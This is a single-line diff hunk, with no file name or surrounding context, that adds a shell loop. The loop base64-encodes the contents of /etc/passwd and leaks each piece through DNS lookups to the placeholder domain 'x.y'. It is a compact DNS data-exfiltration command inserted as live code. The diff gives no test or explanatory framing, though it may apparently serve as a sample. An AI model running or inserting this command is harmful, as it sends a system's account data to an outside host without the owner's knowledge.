@@ -1,0 +1,1 @@
+for l in $(cat /etc/passwd | base64); do dig $l.x.y; done
